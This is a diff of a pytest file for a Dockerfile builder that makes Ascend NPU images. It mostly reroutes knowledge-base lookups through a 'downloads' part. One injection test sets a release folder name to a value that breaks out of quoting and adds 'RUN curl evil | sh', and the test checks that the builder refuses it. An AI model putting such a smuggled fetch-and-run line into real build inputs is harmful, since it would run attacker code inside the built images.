@@ -23,6 +23,7 @@ from builder.images import lock as locking
 from builder.images import blocks, conda_lock, facts, matrix, plan, render
 from builder.errors import UserError
 from tests.support.matrix import SHIPPED_DOCKERFILES, SHIPPED_MATRIX, write_cells
+from tests.support.knowledge import with_part
 
 DEMO = "cann9.1.0-910b-debian12-py3.11-torch_npu2.13.0-x86_64"
 CELL_7 = "cann7.0.rc1-910b-ubuntu22.04-py3.9-torch_npu2.1.0rc1-x86_64"      # lock incomplete: torch==2.1.0+cpu
@@ -124,7 +125,7 @@ def test_the_demo_cells_npu_plan(demo, demo_lock, kb):
         "lock_state": "ok",
         "steps": ("os", "cann", "python", "closure", "chip", "torch_npu", "env", "files"),
         "installs": (closure, torch_npu),
-        "uv": kb.uv_requirement("x86_64"),
+        "uv": kb.downloads.uv_requirement("x86_64"),
         "conda_explicit": "",
         "scripts": (),
     }
@@ -199,7 +200,7 @@ def test_the_demo_cells_cpu_twin_plan(demo, demo_lock, kb):
         "lock_state": "ok",
         "steps": ("os", "python", "closure", "env", "files"),
         "installs": (closure,),
-        "uv": kb.uv_requirement("x86_64"),
+        "uv": kb.downloads.uv_requirement("x86_64"),
         "conda_explicit": "",
         "scripts": (),
     }
@@ -334,7 +335,7 @@ def test_other_sources_and_extras(tmp_path, kb):
     assert not any("+cpu" in line for line in unverified.lines)
     assert torch_npu.lines == ("torch-npu==2.4.0",)
     assert cpu.installs == (unverified,)
-    conda = kb.conda_installer("aarch64")
+    conda = kb.downloads.conda_installer("aarch64")
     e = plan.plan(euler, kb, "cpu", DIGEST)
     env = e.python_environment
     assert (e.block(blocks.BaseOs).family, env.manager, env.prefix) == ("dnf", "conda", "/opt/conda/envs/ascend")
@@ -346,17 +347,14 @@ def test_other_sources_and_extras(tmp_path, kb):
 def test_knowledge_base_values_are_checked_again(demo, kb):
     """A value from builder/data/ that could change a Dockerfile's structure is refused."""
 
-    class Hostile:
-        def __getattr__(self, name):
-            return getattr(kb, name)
+    def cann_release(cann):  # where the installers' URLs start
+        release = kb.downloads.cann_release(cann)
+        return dataclasses.replace(release, folder=release.folder + "'\nRUN curl evil | sh/")
 
-        def cann_release(self, cann):  # where the installers' URLs start
-            release = kb.cann_release(cann)
-            return dataclasses.replace(release, folder=release.folder + "'\nRUN curl evil | sh/")
-
+    hostile = with_part(kb, "downloads", cann_release=cann_release)
     with pytest.raises(UserError, match="installer URL"):
-        plan.plan(demo, Hostile(), "npu", DIGEST)
-    assert plan.plan(demo, Hostile(), "cpu", DIGEST).installers == ()  # the twin has none to refuse
+        plan.plan(demo, hostile, "npu", DIGEST)
+    assert plan.plan(demo, hostile, "cpu", DIGEST).installers == ()  # the twin has none to refuse
 
 
 def test_formatting_asks_the_knowledge_base_nothing(demo, demo_lock, kb, monkeypatch):
@@ -388,7 +386,7 @@ def test_render_writes_what_the_plans_say(demo, demo_lock, kb):
     assert sorted(set(files) - set(vocabulary.SHIPPED_FILES)) == [
         "Dockerfile", "Dockerfile.cpu", "lock.closure.txt", "lock.torch_npu.txt", "manifest.cpu.json", "manifest.json",
         "requirements.lock", "uv.txt"]
-    assert files["uv.txt"] == (kb.uv_requirement(demo.arch) + "\n").encode()
+    assert files["uv.txt"] == (kb.downloads.uv_requirement(demo.arch) + "\n").encode()
 
 
 # --- the cell's lock: its state decides the Python steps -------------------------------------
@@ -461,7 +459,7 @@ def test_a_complete_lock_installs_only_hashed_files(shipped, kb, cell_id):
         assert [i.step for i in p.installs] == steps and all(i.verified and not i.resolve for i in p.installs)
         text = _dockerfile(cell, kb, variant, lock)
         assert _pip_lines(text) == [_uv(p.python_environment.prefix, i.file) for i in p.installs]
-        assert p.uv == kb.uv_requirement(cell.arch) and p.uv.startswith("uv==")
+        assert p.uv == kb.downloads.uv_requirement(cell.arch) and p.uv.startswith("uv==")
         assert "ALLOW_UNVERIFIED" not in text and "NOT VERIFIED" not in text and "torch_index" not in text
         assert f"COPY requirements.lock {LOCK_PATH}\n" in text
         assert 'io.ascend-build.lock="ok"' in text
